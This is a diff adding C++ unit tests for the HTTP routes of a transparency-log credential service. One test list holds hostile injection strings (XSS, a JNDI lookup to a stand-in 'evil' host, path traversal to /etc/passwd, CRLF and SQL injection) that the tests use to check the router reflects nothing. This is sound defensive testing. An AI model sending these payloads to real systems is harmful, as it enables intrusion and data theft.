@@ -1,0 +1,331 @@
+#include <gtest/gtest.h>
+
+#include "crypto/base/encoding.h"
+#include "crypto/hash/sha256.h"
+#include "crypto/json/parse.h"
+#include "rpc/api.h"
+#include "rpc/documents.h"
+#include "tests/support/ask.h"
+#include "tests/support/fake_service.h"
+
+namespace chancery::rpc {
+namespace {
+
+using test::ask;
+using test::FakeService;
+using test::get;
+using test::post;
+using test::Question;
+
+const std::string commitment(64, 'a');
+const std::string record = "/v1/credentials/uni-a/" + commitment;
+const std::string octets = "application/octet-stream";
+const std::string json_type = "application/json";
+
+json::Value document_of(const Response& response) {
+    Result<json::Value> parsed = json::parse(response.body());
+    EXPECT_TRUE(parsed) << response.body();
+    return parsed ? std::move(*parsed) : json::Value();
+}
+
+TEST(LogRoutes, AreCachedAsTheirKindAllows) {
+    FakeService service;
+    const Router router = public_router(service);
+    EXPECT_EQ(get(router, "/checkpoint").field("Cache-Control"), "no-store");
+    EXPECT_EQ(get(router, "/checkpoint").body(), FakeService::note);
+    const Response tile = get(router, "/tile/0/000");
+    EXPECT_EQ(tile.field("Cache-Control"), "public, max-age=31536000, immutable");
+    EXPECT_EQ(tile.body().size(), 8'192U);
+    EXPECT_TRUE(tile.field("ETag").starts_with('"'));
+    EXPECT_EQ(tile.field("Access-Control-Allow-Origin"), "*");
+    service.failure = Error{Errc::not_found, "beyond the sealed size"};
+    EXPECT_EQ(get(router, "/tile/0/000").status(), 404);
+    EXPECT_EQ(get(router, "/tile/0/000").field("Cache-Control"), "no-store");
+}
+
+TEST(LogRoutes, KnowNoTileByAnotherName) {
+    FakeService service;
+    const Router router = public_router(service);
+    for (const char* path : {"/tile/0/0",
+                             "/tile/0/000.p/0",
+                             "/tile/0/000.p/256",
+                             "/tile/0/000/",
+                             "/tile/64/000",
+                             "/tile/00/000",
+                             "/tile/0/x000/000",
+                             "/tile/data/000",
+                             "/tile/0/../0/000",
+                             "/tile/0/%30%30%30"}) {
+        EXPECT_EQ(get(router, path).status(), 404) << path;
+    }
+    EXPECT_EQ(get(router, "/tile/entries/x001/x234/067.p/8").status(), 200);
+}
+
+TEST(LogRoutes, RefuseNumbersThatAreNone) {
+    FakeService service;
+    const Router router = public_router(service);
+    for (const char* target : {"/v1/log/inclusion",
+                               "/v1/log/inclusion?index=1",
+                               "/v1/log/inclusion?index=2&size=2",
+                               "/v1/log/inclusion?index=-1&size=2",
+                               "/v1/log/inclusion?index=01&size=2",
+                               "/v1/log/inclusion?index=+1&size=2",
+                               "/v1/log/inclusion?index=1&index=1&size=2",
+                               "/v1/log/inclusion?index=1&size=9007199254740992",
+                               "/v1/log/inclusion?index=%31%&size=2",
+                               "/v1/log/consistency?from=0&to=2",
+                               "/v1/log/consistency?from=3&to=2",
+                               "/v1/log/entries?limit=0",
+                               "/v1/log/entries?limit=1001",
+                               "/v1/log/entries?after=x",
+                               "/v1/log/status?from=1&to=1",
+                               "/v1/log/status?from=0&to=16385"}) {
+        EXPECT_EQ(get(router, target).status(), 400) << target;
+    }
+    EXPECT_EQ(get(router, "/v1/log/inclusion?index=%31&size=2").status(), 200);
+}
+
+TEST(LogRoutes, LeadThroughTheEntriesByTheirLinks) {
+    FakeService service;
+    const Router router = public_router(service);
+    std::string target = "/v1/log/entries?limit=10";
+    std::uint64_t want = 0;
+    for (int page = 0; page < 3; ++page) {
+        const Response response = get(router, target);
+        const json::Value document = document_of(response);
+        for (const json::Value& item : *document.find("items")->as_array())
+            EXPECT_EQ(*item.find("position")->as_integer(), static_cast<std::int64_t>(want++));
+        const std::string_view link = response.field("Link");
+        EXPECT_EQ(link.empty(), page == 2);
+        if (!link.empty()) target = link.substr(1, link.find('>') - 1);
+    }
+    EXPECT_EQ(want, 25U);
+    EXPECT_TRUE(document_of(get(router, "/v1/log/entries?after=24")).find("next")->is_null());
+}
+
+TEST(LogRoutes, CompressALargeStatusRangeForThoseWhoAsk) {
+    FakeService service;
+    const Router router = public_router(service);
+    Question question{.target = "/v1/log/status?from=0&to=64"};
+    question.fields = {Field{.name = "Accept-Encoding", .value = "br, gzip"}};
+    const Response response = ask(router, question);
+    EXPECT_EQ(response.field("Content-Encoding"), "gzip");
+    EXPECT_LT(response.body().size(), 1'000U);
+    EXPECT_TRUE(response.body().starts_with("\x1f\x8b"));
+    question.fields = {Field{.name = "Accept-Encoding", .value = "gzip;q=0"}};
+    EXPECT_EQ(ask(router, question).field("Content-Encoding"), "");
+}
+
+TEST(BatchRoutes, PassOnTheBulkFormTheContentsAndTheWait) {
+    FakeService service;
+    const Router router = public_router(service);
+    const std::string bulk(200, 'b');
+    Question question;
+    question.method = Method::post;
+    question.target = "/v1/batches";
+    question.fields = {Field{.name = "content-type", .value = "Application/JSON; charset=utf-8"},
+                       Field{.name = "Prefer", .value = "respond-async, wait=10"}};
+    question.body = R"({"contents":["YWJj"],"batch":")" + to_base64(bytes_of(bulk)) + R"("})";
+    const Response response = ask(router, question);
+    EXPECT_EQ(response.status(), 201);
+    EXPECT_EQ(response.field("Preference-Applied"), "wait=10");
+    EXPECT_EQ(response.field("Location"), "/v1/batches/1-" + std::string(32, '0'));
+    EXPECT_EQ(text_of(service.submitted.bulk), bulk);
+    EXPECT_EQ(service.submitted.wait, std::chrono::seconds(10));
+    ASSERT_EQ(service.submitted.contents.size(), 1U);
+    EXPECT_EQ(service.submitted.contents.begin()->first, sha256(bytes_of("abc")));
+    EXPECT_EQ(*document_of(response).find("time")->as_string(), "2026-01-31T12:00:00.250Z");
+}
+
+TEST(BatchRoutes, WaitFiveSecondsUnlessToldAndSixtyAtMost) {
+    FakeService service;
+    const Router router = public_router(service);
+    Question question;
+    question.method = Method::post;
+    question.target = "/v1/batches";
+    question.body = std::string(135, 'b');
+    const std::vector<std::pair<std::string, int>> cases = {
+        {"", 5}, {"wait=0", 0}, {"wait=600", 60}, {"wait=x", 5}, {"wait=-1", 5}, {"wait", 5}};
+    for (const auto& [prefer, seconds] : cases) {
+        question.fields = {Field{.name = "Content-Type", .value = octets},
+                           Field{.name = "Prefer", .value = prefer}};
+        ask(router, question);
+        EXPECT_EQ(service.submitted.wait, std::chrono::seconds(seconds)) << prefer;
+    }
+}
+
+TEST(BatchRoutes, AnswerEachRefusalByWhatTheCallerCanDo) {
+    FakeService service;
+    const Router router = public_router(service);
+    const std::string bulk(135, 'b');
+    service.failure = Error{Errc::forbidden, "bad signature"};
+    EXPECT_EQ(post(router, "/v1/batches", octets, bulk).status(), 422);
+    service.failure = Error{Errc::unavailable, "1 of 3 members reachable, 2 needed"};
+    const Response busy = post(router, "/v1/batches", octets, bulk);
+    EXPECT_EQ(busy.status(), 503);
+    EXPECT_EQ(busy.field("Retry-After"), "1");
+    EXPECT_EQ(*document_of(busy).find("detail")->as_string(), "1 of 3 members reachable, 2 needed");
+    EXPECT_TRUE(*document_of(busy).find("retryable")->as_bool());
+    service.failure = Error{Errc::corrupt, "segment 7 at /var/lib/chancery"};
+    const Response broken = post(router, "/v1/batches", octets, bulk);
+    EXPECT_EQ(broken.status(), 500);
+    EXPECT_EQ(broken.body().find("/var/lib"), std::string::npos);
+    ASSERT_TRUE(broken.cause());
+    EXPECT_EQ(broken.cause()->detail, "segment 7 at /var/lib/chancery");
+}
+
+TEST(BatchRoutes, KnowNoBatchByAnotherId) {
+    FakeService service;
+    const Router router = public_router(service);
+    const std::string nonce(32, '0');
+    for (const std::string& id : {"0-" + nonce,
+                                  "01-" + nonce,
+                                  "1" + nonce,
+                                  "1-" + nonce + "00",
+                                  "4294967296-" + nonce,
+                                  "1-" + std::string(32, 'A')}) {
+        EXPECT_EQ(get(router, "/v1/batches/" + id).status(), 400) << id;
+    }
+}
+
+TEST(CredentialRoutes, TakeAMemberBySlugOrNumber) {
+    FakeService service;
+    const Router router = public_router(service);
+    const auto status = [&](const std::string& member) {
+        return get(router, "/v1/credentials/" + member + "/" + commitment).status();
+    };
+    EXPECT_EQ(status("uni-a"), 200);
+    EXPECT_EQ(status("1"), 200);
+    EXPECT_EQ(status("uni-b"), 404);
+    for (const char* member : {"0", "01", "4294967296", "Uni-A", "-1", "none%20", "a_b"})
+        EXPECT_EQ(status(member), 400) << member;
+    EXPECT_EQ(get(router, "/v1/credentials/1/" + std::string(64, 'A')).status(), 400);
+    EXPECT_EQ(get(router, "/v1/credentials/1/" + std::string(63, 'a')).status(), 400);
+}
+
+TEST(CredentialRoutes, GiveAReceiptAsTextUnlessJsonIsLiked) {
+    FakeService service;
+    const Router router = public_router(service);
+    const Response text = get(router, record + "/receipt");
+    EXPECT_EQ(text.field("Content-Type"), "text/plain; charset=utf-8");
+    EXPECT_TRUE(text.body().starts_with("c2sp.org/tlog-proof@v1\n"));
+    Question question{.target = record + "/receipt"};
+    question.fields = {Field{.name = "Accept", .value = "text/plain;q=0.1, application/json"}};
+    EXPECT_EQ(ask(router, question).field("Content-Type"), "application/json");
+    EXPECT_EQ(ask(router, question).field("Vary"), "Accept");
+}
+
+TEST(CredentialRoutes, ProveUpToAThousandAtOnce) {
+    FakeService service;
+    const Router router = public_router(service);
+    const auto body = [](int count) {
+        std::string text = R"({"credentials":[)";
+        for (int i = 0; i < count; ++i)
+            text += (i == 0 ? "" : ",") + (R"({"member":1,"commitment":")" + commitment + R"("})");
+        return text + "]}";
+    };
+    const Response most = post(router, "/v1/proofs", json_type, body(1'000));
+    EXPECT_EQ(most.status(), 200);
+    EXPECT_EQ(most.field("Access-Control-Allow-Origin"), "*");
+    EXPECT_EQ(post(router, "/v1/proofs", json_type, body(1'001)).status(), 400);
+    EXPECT_EQ(post(router, "/v1/proofs", json_type, body(0)).status(), 400);
+}
+
+TEST(RegistryRoutes, GiveContentAsBytesToKeep) {
+    FakeService service;
+    const Response response = get(public_router(service), "/v1/content/" + commitment);
+    EXPECT_EQ(response.body(), "<b>");
+    EXPECT_EQ(response.field("Content-Type"), octets);
+    EXPECT_EQ(response.field("Content-Disposition"), "attachment");
+}
+
+TEST(HealthRoutes, AreOnBothListenersAndMetricsOnOne) {
+    FakeService service;
+    const Router everybody = public_router(service);
+    const Router admin = admin_router(service);
+    for (const char* path : {"/livez", "/readyz"}) {
+        EXPECT_EQ(get(everybody, path).status(), 200);
+        EXPECT_EQ(get(admin, path).status(), 200);
+        EXPECT_EQ(get(admin, path).field("Access-Control-Allow-Origin"), "");
+    }
+    EXPECT_EQ(get(everybody, "/metrics").status(), 404);
+    EXPECT_EQ(get(admin, "/metrics").body(), "chancery_log_size 25\n");
+    service.ready.is_ready = false;
+    service.ready.findings = {"the disk is full"};
+    EXPECT_EQ(get(everybody, "/readyz").status(), 503);
+    EXPECT_EQ(get(everybody, "/livez").status(), 200);
+}
+
+// What a stranger may put into a request, and must not see again.
+const std::vector<std::string>& hostile_strings() {
+    static const std::vector<std::string> strings = {"<script>alert(1)</script>",
+                                                     "\"><img/src=x>",
+                                                     "{{7*7}}",
+                                                     "${jndi:ldap://evil}",
+                                                     "..%2f..%2fetc%2fpasswd",
+                                                     "%0d%0aSet-Cookie:zyx=1",
+                                                     "'%20OR%201=1--",
+                                                     "zyxwv-canary",
+                                                     "%00zyxwv",
+                                                     "javascript:zyxwv"};
+    return strings;
+}
+
+TEST(PublicRouter, EchoesNothingThatAStrangerSent) {
+    FakeService service;
+    const Router router = public_router(service);
+    for (const std::string& hostile : hostile_strings()) {
+        const std::vector<Response> responses = {
+            get(router, "/" + hostile),
+            get(router, "/tile/" + hostile),
+            get(router, "/v1/batches/" + hostile),
+            get(router, "/v1/content/" + hostile),
+            get(router, "/v1/credentials/" + hostile + "/" + commitment),
+            get(router, "/v1/credentials/1/" + hostile),
+            get(router, "/v1/log/entries?after=" + hostile),
+            get(router, "/v1/log/entries?" + hostile + "=1"),
+            post(router, "/v1/batches", json_type, R"({")" + hostile + R"(":1})"),
+            post(router, "/v1/batches", json_type, R"({"batch":")" + hostile + R"("})"),
+            post(router, "/v1/batches", hostile, "x"),
+            post(router, "/v1/proofs", json_type, hostile),
+            post(router,
+                 "/v1/proofs",
+                 json_type,
+                 R"({"credentials":[{"member":")" + hostile + R"(","commitment":""}]})"),
+        };
+        for (const Response& response : responses) {
+            EXPECT_GE(response.status(), 400);
+            EXPECT_EQ(response.body().find(hostile), std::string::npos) << response.body();
+            EXPECT_EQ(response.body().find("zyx"), std::string::npos) << response.body();
+            for (const ResponseField& field : response.fields())
+                EXPECT_EQ(field.value.find("zyx"), std::string::npos) << field.name;
+        }
+    }
+}
+
+TEST(PublicRouter, SharesReadsWithOtherWebSitesAndNoWrites) {
+    FakeService service;
+    const Router router = public_router(service);
+    for (const Route& route : router.routes()) {
+        const bool is_read = route.method == Method::get || route.path == "/v1/proofs";
+        EXPECT_EQ(route.is_cross_origin, is_read) << route.path;
+    }
+    Question preflight;
+    preflight.method = Method::options;
+    preflight.target = "/v1/proofs";
+    const Response allowed = ask(router, preflight);
+    EXPECT_EQ(allowed.status(), 204);
+    EXPECT_EQ(allowed.field("Access-Control-Allow-Methods"), "POST, OPTIONS");
+    preflight.target = "/v1/batches";
+    EXPECT_EQ(ask(router, preflight).field("Access-Control-Allow-Origin"), "");
+}
+
+TEST(Documents, WriteTimesAsRfc3339) {
+    EXPECT_EQ(date_time(0), "1970-01-01T00:00:00.000Z");
+    EXPECT_EQ(date_time(951'782'399'999), "2000-02-28T23:59:59.999Z");
+    EXPECT_EQ(date_time(951'782'400'000), "2000-02-29T00:00:00.000Z");
+    EXPECT_EQ(date_time(~std::uint64_t{0}), "9999-12-31T23:59:59.999Z");
+}
+
+}  // namespace
+}  // namespace chancery::rpc
